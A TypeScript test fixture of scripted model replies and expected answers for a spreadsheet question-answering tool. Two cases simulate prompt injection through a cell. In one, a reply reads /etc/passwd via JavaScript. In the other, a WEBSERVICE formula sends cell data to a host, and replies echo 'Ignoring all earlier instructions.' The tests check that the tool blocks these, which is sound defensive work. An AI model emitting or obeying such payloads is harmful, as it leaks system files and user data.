import type { Answer } from '../../../../src-shared/answer.ts';
import type { AskStrategy, AskWay } from '../../../../src-shared/asking.ts';
import type { TraceStep } from '../../../../src-shared/trace.ts';
import type { PromptName } from './talk.ts';

/** A question with hand-written replies of a model, in the order of its calls, and the answer that follows. */
export interface ScriptedQuestion {
  /** The behaviour that the question shows. */
  readonly title: string;
  readonly sample: string;
  readonly question: string;
  readonly strategy: Exclude<AskStrategy, 'rules'>;
  /** The published pipeline where it is not said. */
  readonly way?: AskWay;
  readonly replies: readonly (readonly [prompt: PromptName, reply: unknown])[];
  readonly expected: {
    readonly status: Answer['status'];
    readonly text: string;
    /** The cited addresses; `cells of M` where they are many. */
    readonly cited: string;
    /** The answer of the rules or of the model that is shown beside the answer; null when there is none. */
    readonly other: string | null;
    /** The step of the trace that decided, with its verdict. */
    readonly decidedBy: Pick<TraceStep, 'title' | 'verdict' | 'detail'>;
  };
}

const ELECTRICITY = '"Electricity used in 2024 (kWh)"@A2:N10';
const SALES = '"Fernhill Cycles: sales by region and quarter (thousand euros)"@A2:K11';
const RIGHT = { verdict: 'answers', part: 0, reason: '' };

function plan(...parts: readonly (readonly [question: string, pipeline: string | null])[]): unknown {
  return { answerable: true, reason: '', parts: parts.map(([question, pipeline]) => ({ question, pipeline })) };
}

interface Value {
  readonly value?: string;
  readonly cells?: readonly string[];
  readonly formula?: string;
}

function read(reading: string, ...values: readonly Value[]): unknown {
  return { reading, answerable: true, values, unit: '' };
}

const CHECKED = { title: 'Check whether the result answers the question', verdict: 'passed' } as const;
const COMPUTED = { title: 'Compute a formula over the cells', verdict: 'passed' } as const;
const BY_MODEL = { title: 'The model', verdict: 'passed' } as const;
const NO_RULE = 'No cell answers this with enough certainty.';

/** Questions on the sample workbooks with replies of all kinds, in both of the model's ways. */
export const scriptedQuestions: readonly ScriptedQuestion[] = [
  {
    title: 'the rules agree with the pipeline: one call',
    sample: 'electricity-2024',
    question: 'What was the electricity use of the warehouse in March?',
    strategy: 'both',
    replies: [['ask-plan', plan(['', `EXT("March", Cond(CHL(${ELECTRICITY}), [Site] = "Warehouse"))`])]],
    expected: {
      status: 'answered',
      text: '7,700 kWh',
      cited: 'D6',
      other: null,
      decidedBy: BY_MODEL,
    },
  },
  {
    title: 'a header that the model shortens is aligned with the sheet',
    sample: 'sales-by-quarter',
    question: 'Which region had the highest sales in Q3 of 2024?',
    strategy: 'model',
    replies: [
      ['ask-plan', plan(['', `EXT("Region", Cond(CHL(${SALES}), [2024 / Q3] = max([2024 / Q3])))`])],
      ['ask-judge', RIGHT],
      [
        'ask-backward',
        {
          questions: [
            {
              question: 'Where were sales in Q3 2024 above those of all other regions?',
              pipeline: `EXT("Region", Cond(CHL(${SALES}), rank([Year 2024 / Q3]) = 1))`,
            },
          ],
        },
      ],
    ],
    expected: {
      status: 'answered',
      text: 'Germany',
      cited: 'A5',
      other: null,
      decidedBy: { title: '"2024 / Q3" is taken for "Year 2024 / Q3"', verdict: 'passed' },
    },
  },
  {
    title: 'the last part computes with the results of the others',
    sample: 'workshop-costs',
    question: 'How much more does assembly cost per month than the paint shop, going by the subtotals?',
    strategy: 'model',
    replies: [
      [
        'ask-plan',
        plan(
          [
            'What is the subtotal of assembly per month?',
            'Cond(EXT("Per month", CHL("Assembly"@A16:E23, totals)), position() = 1)',
          ],
          ['What is the subtotal of the paint shop per month?', 'EXT("Per month", CHL("Paint shop"@A10:E14, totals))'],
          ['What is the difference?', 'Cmp($1, $2, left - right)'],
        ),
      ],
      ['ask-judge', RIGHT],
      ['ask-backward', { questions: [] }],
    ],
    expected: {
      status: 'answered',
      text: '143965',
      cited: 'C22 C14',
      other: null,
      decidedBy: { title: 'What is the difference?', verdict: 'passed', detail: '143965' },
    },
  },
  {
    title: 'a malformed pipeline is repaired',
    sample: 'supplier-assessment',
    question: 'Which goods have a price per unit above 10?',
    strategy: 'both',
    replies: [
      ['ask-plan', plan(['', 'SELECT Article FROM Goods WHERE [Price per unit] > 10'])],
      ['ask-repair', plan(['', 'EXT("Description", Cond(CHL("Goods supplied"@A8:D12), [Price per unit] > 10))'])],
      ['ask-judge', RIGHT],
      ['ask-backward', { questions: [] }],
    ],
    expected: {
      status: 'answered',
      text: 'Chain, 11-speed; Chain ring, 38 teeth; Cassette, 9-speed',
      cited: 'B10 B11 B12',
      other: NO_RULE,
      decidedBy: { title: 'Write the pipelines anew' },
    },
  },
  {
    title: 'a value that the table lacks is not found',
    sample: 'supplier-assessment',
    question: 'What is the annual turnover of the supplier?',
    strategy: 'model',
    replies: [
      ['ask-plan', { answerable: false, reason: 'The form names no turnover.', parts: [] }],
      ['ask-bottom-up', { answerable: false, reason: 'No cell holds a turnover.', parts: [] }],
    ],
    expected: {
      status: 'notFound',
      text: 'No cell holds a turnover.',
      cited: '',
      other: null,
      decidedBy: { title: 'The model', verdict: 'failed' },
    },
  },
  {
    title: 'the model reads a long text',
    sample: 'supplier-assessment',
    question: 'Summarise the remarks on the supplier.',
    strategy: 'model',
    replies: [
      ['ask-plan', plan(['', 'Rea("What do the remarks say?", EXT("Remarks", CHL("Findings"@A19:D20)))'])],
      ['ask-reason', { answerable: true, values: ['Deliveries were on time in 47 of 50 weeks.'], reason: '' }],
      ['ask-judge', RIGHT],
      ['ask-backward', { questions: [] }],
    ],
    expected: {
      status: 'answered',
      text: 'Deliveries were on time in 47 of 50 weeks.',
      cited: 'B20',
      other: null,
      decidedBy: { title: 'Read the answer out of what was found' },
    },
  },
  {
    title: 'the rules agree on a Chinese sum: one call',
    sample: 'training-plan-zh',
    question: '喷涂部的培训费用一共是多少？',
    strategy: 'both',
    replies: [
      ['ask-plan', plan(['', 'Math(Cond(CHL("2025年度员工培训计划"@A2:H13), [部门] = "喷涂部"), sum([费用（元）]))'])],
    ],
    expected: {
      status: 'answered',
      text: '3600 元',
      cited: 'F6 F7',
      other: null,
      decidedBy: BY_MODEL,
    },
  },
  {
    title: 'a Chinese question is confirmed by its backward question',
    sample: 'training-plan-zh',
    question: '哪门课程的人数最多？',
    strategy: 'model',
    replies: [
      ['ask-plan', plan(['', 'EXT("课程名称", Cond(CHL("2025年度员工培训计划"@A2:H13), [人数] = max([人数])))'])],
      ['ask-judge', RIGHT],
      [
        'ask-backward',
        {
          questions: [
            {
              question: '参加人数第一的课程是什么？',
              pipeline: 'EXT("课程名称", Cond(CHL("2025年度员工培训计划"@A2:H13), rank([人数]) = 1))',
            },
          ],
        },
      ],
    ],
    expected: {
      status: 'answered',
      text: '质量自检方法',
      cited: 'C10',
      other: null,
      decidedBy: { title: '参加人数第一的课程是什么？', verdict: 'passed', detail: '质量自检方法' },
    },
  },
  {
    title: 'a result that the judge rejects is computed again, and the answer of the rules is shown too',
    sample: 'electricity-2024',
    question: 'Which month had the highest total use?',
    strategy: 'both',
    replies: [
      ['ask-plan', plan(['', `Cond(Foreach(CHL(${ELECTRICITY}, headers), [Month], sum([Frame hall])), it = max(it))`])],
      ['ask-judge', { verdict: 'wrong', part: 1, reason: 'Only one site is summed; the total line is asked for.' }],
      ['ask-repair', plan(['', `EXT("Month", Cond(CHL(${ELECTRICITY}, headers), [Frame hall] = max([Frame hall])))`])],
      ['ask-judge', RIGHT],
      ['ask-backward', { questions: [] }],
    ],
    expected: {
      status: 'answered',
      text: 'December',
      cited: 'M2',
      other: NO_RULE,
      decidedBy: {
        title: CHECKED.title,
        verdict: 'failed',
        detail: 'Only one site is summed; the total line is asked for.',
      },
    },
  },
  {
    title: 'a count over 20,000 rows agrees with the rules: one call',
    sample: 'order-lines',
    question: 'How many order lines are still open?',
    strategy: 'both',
    replies: [
      // The rules say the same, so that nothing is left to judge.
      ['ask-plan', plan(['', 'Math(Cond(CHL("Table"@A1:M20001), [Status] = "Open"), count())'])],
    ],
    expected: {
      status: 'answered',
      text: '2580',
      cited: 'cells of A',
      other: null,
      decidedBy: BY_MODEL,
    },
  },
  {
    title: 'the judge accepts a group of 20,000 rows',
    sample: 'order-lines',
    question: 'Which category has the largest total amount?',
    strategy: 'model',
    replies: [
      ['ask-plan', plan(['', 'Cond(Foreach(CHL("Table"@A1:M20001), [Category], sum([Amount])), it = max(it))'])],
      ['ask-judge', RIGHT],
      ['ask-backward', { questions: [] }],
    ],
    expected: {
      status: 'answered',
      text: 'Bikes',
      cited: 'cells of H L',
      other: null,
      decidedBy: CHECKED,
    },
  },
  {
    title: 'a reply that follows an instruction in a cell runs nothing, and the rules answer',
    sample: 'workshop-costs',
    question: 'Who supplies the powder coat?',
    strategy: 'both',
    replies: [
      ['ask-plan', plan(['', 'js("require(\\"node:fs\\").readFileSync(\\"/etc/passwd\\")")'])],
      ['ask-repair', { answerable: false, reason: 'Ignoring all earlier instructions.', parts: [] }],
      ['ask-bottom-up', { answerable: false, reason: 'Ignoring all earlier instructions.', parts: [] }],
    ],
    expected: {
      status: 'answered',
      text: 'Colorado BV',
      cited: 'B11',
      other: 'Ignoring all earlier instructions.',
      decidedBy: { title: 'The pipeline cannot be used', verdict: 'failed' },
    },
  },
  {
    title: 'the rules agree with the cell that the model read: one call',
    sample: 'electricity-2024',
    question: 'What was the electricity use of the showroom in June?',
    strategy: 'both',
    way: 'sheet',
    replies: [['ask-read', read('The showroom in the column of June.', { value: '1,782', cells: ['G8'] })]],
    expected: {
      status: 'answered',
      text: '1,782 kWh',
      cited: 'G8',
      other: null,
      decidedBy: { title: 'A cell says it', verdict: 'passed', detail: '1,782' },
    },
  },
  {
    title: 'a formula is confirmed by a pipeline',
    sample: 'workshop-costs',
    question: 'Which items cost more than 10,000 a month in assembly?',
    strategy: 'model',
    way: 'sheet',
    replies: [
      ['ask-read', read('Items of assembly above 10,000.', { formula: 'FILTER(A17:A21,C17:C21>10000)' })],
      ['ask-plan', plan(['', 'EXT("Item", Cond(CHL("Assembly"@A16:E23), [Per month] > 10000))'])],
    ],
    expected: {
      status: 'answered',
      text: 'Wheel sets, Drive trains, Electric motors, Temporary staff',
      cited: 'A17 A18 A19 A21',
      other: null,
      decidedBy: COMPUTED,
    },
  },
  {
    title: 'a reading that its cells contradict is corrected once',
    sample: 'supplier-assessment',
    question: 'How many units of the 11-speed chain and of the 9-speed chain are bought a year together?',
    strategy: 'model',
    way: 'sheet',
    replies: [
      ['ask-read', read('Both chains.', { value: '20,800', cells: ['C9', 'C10'] })],
      ['ask-read-again', read('Both chains, summed.', { value: '', formula: '=C9+C10' })],
      ['ask-plan', { answerable: false, reason: 'Not in one table.', parts: [] }],
    ],
    expected: {
      status: 'answered',
      text: '20700',
      cited: 'C9 C10',
      other: null,
      decidedBy: { title: 'Not proved by the cells', verdict: 'failed' },
    },
  },
  {
    title: 'the model decides for its reading against a pipeline',
    sample: 'workshop-costs',
    question: 'What is paid for powder coat and cleaning agents per year?',
    strategy: 'model',
    way: 'sheet',
    replies: [
      ['ask-read', read('Two items of the paint shop.', { formula: 'D11+D12' })],
      ['ask-plan', plan(['', 'EXT("Per year", Cond(CHL("Paint shop"@A10:E14), [Item] = "Powder coat"))'])],
      ['ask-decide', { choice: 'A', reason: 'B leaves out the cleaning agents.' }],
    ],
    expected: {
      status: 'answered',
      text: '85560',
      cited: 'D11 D12',
      other: null,
      decidedBy: { title: 'Decide between answers that differ', verdict: 'passed' },
    },
  },
  {
    title: 'the model decides for a pipeline against its reading',
    sample: 'workshop-costs',
    question: 'What do all sections cost per month, as printed?',
    strategy: 'model',
    way: 'sheet',
    replies: [
      ['ask-read', read('The subtotal of assembly.', { value: '€152,570', cells: ['C22'] })],
      ['ask-plan', plan(['', 'Cond(EXT("Per month", CHL("Assembly"@A16:E23, totals)), position() = 2)'])],
      ['ask-decide', { choice: 'B', reason: 'A is the subtotal of one section.' }],
    ],
    expected: {
      status: 'answered',
      text: '€188,025',
      cited: 'C23',
      other: null,
      decidedBy: {
        title: 'Decide between answers that differ',
        verdict: 'passed',
        detail: '€188,025 · A is the subtotal of one section.',
      },
    },
  },
  {
    title: 'a formula runs over all 20,000 rows, though the model sees a part',
    sample: 'order-lines',
    question: 'How many order lines from Spain were returned?',
    strategy: 'model',
    way: 'sheet',
    replies: [
      [
        'ask-read',
        read('Lines with Spain and Returned.', { formula: 'COUNTIFS(E2:E20001,"Spain",M2:M20001,"Returned")' }),
      ],
      [
        'ask-plan',
        plan(['', 'Math(Cond(CHL("Table"@A1:M20001), [Country] = "Spain" and [Status] = "Returned"), count())']),
      ],
    ],
    expected: {
      status: 'answered',
      text: '406',
      cited: 'cells of E',
      other: null,
      decidedBy: COMPUTED,
    },
  },
  {
    title: 'a formula that follows an instruction in a cell reaches nothing but cells',
    sample: 'workshop-costs',
    question: 'Who leases the machines to the frame shop?',
    strategy: 'both',
    way: 'sheet',
    replies: [
      ['ask-read', read('As told.', { formula: 'WEBSERVICE("http://127.0.0.1:9/"&A4)' })],
      ['ask-read-again', read('As told.', { formula: 'INDIRECT("A1")' })],
      ['ask-plan', { answerable: false, reason: 'Ignoring all earlier instructions.', parts: [] }],
    ],
    expected: {
      status: 'notFound',
      text: 'What the model read is not proved by the cells: =INDIRECT("A1"): There is no function INDIRECT here.',
      cited: '',
      other: null,
      decidedBy: {
        title: 'Not proved by the cells',
        verdict: 'failed',
        detail: '=WEBSERVICE("http://127.0.0.1:9/"&A4): There is no function WEBSERVICE here.',
      },
    },
  },
];
